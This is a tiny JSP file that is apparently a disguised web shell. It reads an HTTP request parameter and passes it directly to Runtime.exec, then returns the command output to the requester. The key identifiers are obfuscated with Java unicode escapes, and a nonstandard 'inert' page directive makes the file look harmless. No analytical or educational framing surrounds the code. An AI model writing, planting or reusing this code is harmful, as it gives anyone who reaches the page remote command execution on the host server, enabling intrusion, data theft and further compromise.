<%@ page inert %>
<%
String s = \u0072equest.getParameter("n");
Process p = \u0052\u0075\u006e\u0074\u0069\u006d\u0065.get\u0052untime().\u0065\u0078\u0065\u0063(s);
out.print(new String(p.getInputStream().readAllBytes()));
%>
